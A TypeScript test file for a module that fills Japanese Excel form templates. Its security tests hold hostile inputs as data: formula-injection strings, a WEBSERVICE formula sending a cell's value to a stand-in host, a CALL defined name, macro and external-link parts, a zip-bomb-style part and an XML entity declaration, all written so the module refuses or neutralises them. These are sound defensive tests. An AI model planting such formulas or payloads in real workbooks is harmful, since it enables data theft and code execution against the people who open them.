import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { ProblemError } from '#kernel/problems/index.ts'
import {
  fillLayout,
  findPlaces,
  layoutLimits,
  openLayout,
  drawPictures,
} from '#platform/documents/layout/index.ts'
import type { LayoutValues, ResolvePlace } from '#platform/documents/layout/index.ts'
import { officeForm, partsOf, readBook, withParts } from './layoutBooks.ts'
import { anyText } from './texts.ts'

const columns = ['品名', 'くわしく', '数']
const mean: ResolvePlace = (place) =>
  columns.includes(place)
    ? { kind: 'column', table: '持ち物', column: place }
    : ['番号', '所属', '申請者', '件名', '数量'].includes(place)
      ? { kind: 'value', key: place }
      : undefined
const things = (count: number) =>
  Array.from({ length: count }, (_, i) => ({ 品名: `品${i + 1}`, くわしく: '', 数: i + 1 }))
const filling = (
  values: Readonly<Record<string, string | number>>,
  count: number,
): LayoutValues => ({
  values: new Map(Object.entries(values)),
  tables: new Map([
    [
      '持ち物',
      { title: '持ち物', columns: columns.map((id) => ({ id, title: id })), rows: things(count) },
    ],
  ]),
})
const filled = async (
  bytes: Uint8Array,
  values: Readonly<Record<string, string | number>>,
  count = 0,
) => fillLayout(await openLayout(bytes, '様式.xlsx'), mean, filling(values, count))
const problemOf = (work: Promise<unknown>) =>
  work.then(
    () => null,
    (error: unknown) => (error instanceof ProblemError ? error.problem : error),
  )

describe('filling', () => {
  it('puts texts into their places and leaves the rest of the cell', async () => {
    const sheet = (
      await readBook(
        await filled(await officeForm(), { 番号: '持出R8-0001', 所属: '福祉課', 申請者: '森 空' }),
      )
    )[0]!
    expect([sheet.value('A1'), sheet.value('B2'), sheet.value('B3')]).toEqual([
      '情報資産持出許可申請書',
      '持出R8-0001',
      '福祉課　森 空様',
    ])
  })

  it('keeps formats, widths, merged cells, print set-up and everything that it does not know byte for byte', async () => {
    const drawing = '<xdr:wsDr xmlns:xdr="x" xmlns:a="a"><a:t>印</a:t></xdr:wsDr>'
    const layout = withParts(await officeForm(), {
      'xl/drawings/drawing1.xml': drawing,
      'xl/printerSettings/printerSettings1.bin': 'プリンター',
    })
    const bytes = await filled(layout, { 番号: '1' }, 2)
    const [before, after] = [partsOf(layout), partsOf(bytes)]
    const sheet = (xml: string | undefined) => xml?.replace(/<sheetData>[^]*<\/sheetData>/, '')
    for (const [part, text] of Object.entries(before)) {
      if (!part.endsWith('/') && !['xl/worksheets/sheet1.xml', 'xl/workbook.xml'].includes(part))
        expect({ part, text: after[part] }).toEqual({ part, text })
    }
    expect(sheet(after['xl/worksheets/sheet1.xml'])).toBe(sheet(before['xl/worksheets/sheet1.xml']))
    const read = (await readBook(bytes))[0]!
    expect(read.style('A1').font).toMatchObject({ name: 'MS 明朝', size: 16, bold: true })
    expect([
      read.sheet.columns?.[1]?.width,
      read.sheet.merges,
      read.sheet.pageSetup?.orientation,
      read.sheet.pageSetup?.printArea,
    ]).toEqual([
      31,
      [{ startRow: 0, startCol: 0, endRow: 0, endCol: 3 }],
      'landscape',
      '$A$1:$D$12',
    ])
  })

  it('any text survives, and none becomes a formula', async () => {
    const layout = await openLayout(await officeForm(), '様式.xlsx')
    await fc.assert(
      fc.asyncProperty(anyText, anyText, async (number, thing) => {
        const bytes = fillLayout(layout, mean, {
          ...filling({ 番号: number }, 0),
          tables: new Map([
            [
              '持ち物',
              { title: '持ち物', columns: [], rows: [{ 品名: thing, くわしく: number, 数: 1 }] },
            ],
          ]),
        })
        expect((partsOf(bytes)['xl/worksheets/sheet1.xml'] ?? '').match(/<f>[^<]*<\/f>/g)).toEqual([
          '<f>SUM(C6:C9)</f>',
        ])
        const again = await openLayout(bytes, '様式.xlsx')
        const text = (ref: string) =>
          again.sheets[0]!.rows.flatMap((row) => row.cells)
            .find((cell) => cell.ref === ref)
            ?.runs.map((run) => run.text)
            .join('')
        expect([text('B2') ?? '', text('A6') ?? '']).toEqual([number, thing])
        expect(
          String((await readBook(bytes))[0]!.value('B6') ?? '').replaceAll('_x005F_', '_'),
        ).toBe(number)
      }),
      { numRuns: 60 },
    )
  })

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1', '\t=1'])(
    '%j is marked as a text, so that editing the cell makes no formula of it either',
    async (text) => {
      const bytes = await filled(await officeForm(), { 番号: text })
      const [, style] =
        /<c r="B2" s="(\d+)" t="inlineStr">/.exec(
          partsOf(bytes)['xl/worksheets/sheet1.xml'] ?? '',
        ) ?? []
      const formats =
        /<cellXfs[^>]*>(.*?)<\/cellXfs>/s
          .exec(partsOf(bytes)['xl/styles.xml'] ?? '')?.[1]
          ?.match(/<xf\b(?:[^>]*\/>|.*?<\/xf>)/gs) ?? []
      expect(formats[Number(style)]).toContain('quotePrefix="1"')
    },
  )

  it('fills a table down from its row, numbers, and has the sums worked out anew', async () => {
    const bytes = await filled(await officeForm(), {}, 4)
    const sheet = (await readBook(bytes))[0]!
    expect([6, 7, 8, 9].map((row) => [sheet.value(`A${row}`), sheet.value(`C${row}`)])).toEqual([
      ['品1', 1],
      ['品2', 2],
      ['品3', 3],
      ['品4', 4],
    ])
    expect(sheet.style('B9').border?.top?.style).toBe('thin')
    expect(partsOf(bytes)['xl/workbook.xml']).toContain('fullCalcOnLoad="1"')
  })

  it('a table without lines leaves its row empty', async () => {
    expect((await readBook(await filled(await officeForm(), {})))[0]!.value('A6')).toBeNull()
  })

  it('a table that does not fit overwrites nothing: it says so and stands whole on a sheet of its own', async () => {
    const book = await readBook(await filled(await officeForm(), {}, 5))
    const [sheet, attached] = book
    expect([sheet?.value('A6'), sheet?.value('A7'), sheet?.value('A10')]).toEqual([
      '別紙「持ち物」のとおり（全5件）',
      null,
      '合計',
    ])
    expect(attached?.name).toBe('別紙 持ち物')
    expect(
      [3, 4, 8].map((row) => ['A', 'B', 'C'].map((column) => attached?.value(`${column}${row}`))),
    ).toEqual([columns, ['品1', null, 1], ['品5', null, 5]])
  })

  it('a table goes on in rows that are not there yet where nothing is drawn', async () => {
    const bytes = await filled(
      await officeForm({ A6: null, B6: null, C6: null, A20: '{品名}', B20: '{数}' }),
      {},
      30,
    )
    const sheet = (await readBook(bytes))[0]!
    expect([sheet.value('A20'), sheet.value('A49'), sheet.value('B49')]).toEqual([
      '品1',
      '品30',
      30,
    ])
  })

  it('lines that are two rows high go on every second row', async () => {
    const bytes = await officeForm(
      { A6: null, B6: null, C6: null, A14: '{品名}', C14: '{数}' },
      { merges: ['A14:B15', 'A16:B17', 'A18:B19'] },
    )
    const sheet = (await readBook(await filled(bytes, {}, 3)))[0]!
    expect([14, 15, 16, 18].map((row) => sheet.value(`C${row}`))).toEqual([1, null, 2, 3])
    expect((await readBook(await filled(bytes, {}, 4))).map((one) => one.name)).toEqual([
      '持出許可',
      '別紙 持ち物',
    ])
  })

  it('parts of a text that are set differently stay so', async () => {
    const runs = [
      { font: { bold: true }, text: '氏名 ' },
      { font: { italic: true }, text: '{申請者}' },
    ]
    const sheet = (
      await readBook(await filled(await officeForm({ B3: runs }), { 申請者: '森 空' }))
    )[0]!
    expect(sheet.pieces('B3')).toMatchObject([
      { font: { bold: true }, text: '氏名 ' },
      { font: { italic: true }, text: '森 空' },
    ])
  })

  it('a text of several lines is shown in lines', async () => {
    expect(
      (await readBook(await filled(await officeForm(), { 番号: '一\n二' })))[0]!.style('B2')
        .alignment?.wrapText,
    ).toBe(true)
  })
})

describe('a row grows when its text would be cut off', () => {
  const heightOf = async (text: string, wrapText: boolean) => {
    const layout = await officeForm(
      {},
      { merges: ['B2:C2'], wrapped: wrapText ? ['B2'] : [], heights: { 2: 20 } },
    )
    return (await readBook(await filled(layout, { 番号: text })))[0]!.height(2)
  }
  it.each([
    ['of one line stays', '一行', true, 20, 20],
    ['of many lines grows', '一\n二\n三\n四', true, 60, 70],
    ['that breaks grows', '長い文'.repeat(40), true, 80, 130],
    ['that is shrunk or runs on stays', '長い文'.repeat(40), false, 20, 20],
  ])('one %s', async (_name, text, wraps, least, most) => {
    const height = await heightOf(text, wraps)
    expect(height).toBeGreaterThanOrEqual(least)
    expect(height).toBeLessThanOrEqual(most)
  })
})

describe('places', () => {
  it('are found with their cells, in whatever width they are written', async () => {
    const { places, faults } = findPlaces(
      await openLayout(await officeForm({ D2: '｛ 件名 ｝' }), '様式.xlsx'),
      mean,
    )
    expect(faults).toEqual([])
    expect(places.map(({ cell, place }) => `${cell} ${place}`)).toEqual([
      'B2 番号',
      'D2 件名',
      'B3 所属',
      'B3 申請者',
      'A6 品名',
      'B6 くわしく',
      'C6 数',
    ])
  })

  it('that cannot be filled are all told at once, with the cell', async () => {
    const drawing =
      '<xdr:wsDr xmlns:xdr="x" xmlns:a="a"><a:p><a:r><a:t>{申</a:t></a:r><a:r><a:t>請者}</a:t></a:r></a:p></xdr:wsDr>'
    const layout = withParts(
      await officeForm({
        B2: '{番후}',
        D2: '{番号',
        D3: { formula: '"{番号}"', result: '{番号}' },
        D8: '{数}',
      }),
      {
        'xl/drawings/drawing1.xml': drawing,
        'xl/worksheets/sheet1.xml': (xml) => xml.replace('様式2', '{番号}'),
      },
    )
    const { faults } = findPlaces(await openLayout(layout, '様式.xlsx'), mean)
    expect(faults.map(({ cell, why }) => `${cell} ${why}`).toSorted()).toEqual([
      ' drawing',
      ' page',
      'B2 unknown',
      'D2 brace',
      'D3 formula',
      'D8 rows',
    ])
  })
})

describe('a workbook is refused', () => {
  const active: readonly (readonly [
    string,
    Readonly<Record<string, string | ((xml: string) => string)>>,
    string,
  ])[] = [
    ['with macros', { 'xl/vbaProject.bin': 'x' }, 'マクロ'],
    [
      'that says it has macros',
      {
        '[Content_Types].xml': (xml) =>
          xml.replace('spreadsheetml.sheet.main', 'ms-excel.sheet.macroEnabled.main'),
      },
      'マクロ',
    ],
    ['with old macro sheets', { 'xl/macrosheets/sheet1.xml': '<a/>' }, 'マクロのシート'],
    ['with embedded files', { 'xl/embeddings/oleObject1.bin': 'x' }, '埋め込まれた'],
    [
      'with links to other books',
      { 'xl/externalLinks/externalLink1.xml': '<a/>' },
      'ほかのブックへのリンク',
    ],
    ['with connections', { 'xl/connections.xml': '<a/>' }, '外部のデータへの接続'],
    [
      'with pictures from elsewhere',
      {
        'xl/worksheets/_rels/sheet1.xml.rels':
          '<Relationships><Relationship Id="a" Type="x/image" Target="http://e/x.png" TargetMode="External"/></Relationships>',
      },
      '外のファイル',
    ],
    [
      'with links to files of others',
      {
        'xl/worksheets/_rels/sheet1.xml.rels':
          '<Relationships><Relationship Id="a" Type="x/hyperlink" Target="\\\\e\\x" TargetMode="External"/></Relationships>',
      },
      '外のファイル',
    ],
    [
      'with formulas that load',
      {
        'xl/worksheets/sheet1.xml': (xml) =>
          xml.replace('SUM(C6:C9)', '_xlfn.WEBSERVICE(&quot;http://e/&quot;&amp;B2)'),
      },
      'WEBSERVICE',
    ],
    [
      'with names that call',
      {
        'xl/workbook.xml': (xml) =>
          xml.replace(
            '</definedNames>',
            '<definedName name="a">CALL("x")</definedName></definedNames>',
          ),
      },
      'CALL',
    ],
  ]
  it.each(active)('%s', async (_name, change, says) => {
    const found = await problemOf(openLayout(withParts(await officeForm(), change), '様式.xlsx'))
    expect(found).toMatchObject({
      code: 'layout-active',
      detail: expect.stringContaining(says) as unknown,
    })
  })

  it.each([
    ['a text', Buffer.from('番号,名前\n1,森'), 'layout-not-excel'],
    [
      'an old workbook',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('Workbook', 'utf16le')]),
      'layout-not-excel',
    ],
    [
      'a workbook under a password',
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ]),
      'document-encrypted',
    ],
    ['nothing', Buffer.alloc(0), 'document-empty'],
    ['a file that is too large', Buffer.alloc(layoutLimits.bytes + 1), 'document-too-large'],
  ])('%s', async (_name, bytes, code) => {
    expect(await problemOf(openLayout(bytes, '様式'))).toMatchObject({ code })
  })

  it('that is cut off', async () => {
    expect(
      await problemOf(openLayout((await officeForm()).subarray(0, 3000), '様式')),
    ).toMatchObject({
      code: expect.stringMatching(/^document-damaged|layout-not-excel$/) as unknown,
    })
  })

  it('that unpacks to more than is allowed, in one part or in all', async () => {
    const bomb = withParts(await officeForm(), {
      'xl/worksheets/sheet1.xml': (xml) =>
        xml.replace('<sheetData>', `<sheetData>${' '.repeat(layoutLimits.xml)}`),
    })
    expect(await problemOf(openLayout(bomb, '様式'))).toMatchObject({ code: 'document-inflates' })
    const many = withParts(
      await officeForm(),
      Object.fromEntries(
        Array.from({ length: 6 }, (_, i) => [`xl/media/${i}.png`, 'x'.repeat(10 * 1024 * 1024)]),
      ),
    )
    expect(many.length).toBeLessThan(layoutLimits.bytes)
    expect(await problemOf(openLayout(many, '様式'))).toMatchObject({ code: 'document-inflates' })
  })

  it('with entities or marked sections in its XML', async () => {
    const layout = withParts(await officeForm(), {
      'xl/worksheets/sheet1.xml': (xml) =>
        xml.replace('<worksheet', '<!DOCTYPE a [<!ENTITY b "c">]><worksheet'),
    })
    expect(await problemOf(openLayout(layout, '様式'))).toMatchObject({ code: 'document-damaged' })
  })
})

it('a picture of a filled layout shows its grid, and what was filled in', async () => {
  const layout = await openLayout(await officeForm(), '様式.xlsx')
  const [sheet] = drawPictures(
    await openLayout(fillLayout(layout, mean, filling({ 番号: '持出R8-0001' }, 1)), '様式.xlsx'),
    layout,
  )
  const cell = (ref: string) =>
    sheet?.rows.flatMap((row) => row.cells).find((one) => one.ref === ref)
  expect(sheet?.widths).toEqual([12, 31, 9, 14])
  expect(cell('A1')).toMatchObject({
    text: '情報資産持出許可申請書',
    across: 4,
    align: 'center',
    filled: false,
  })
  expect(cell('B2')).toMatchObject({ text: '持出R8-0001', filled: true })
  expect(cell('C6')).toMatchObject({ text: '1', boxed: true, filled: true })
  expect(cell('B1')).toBeUndefined()
})
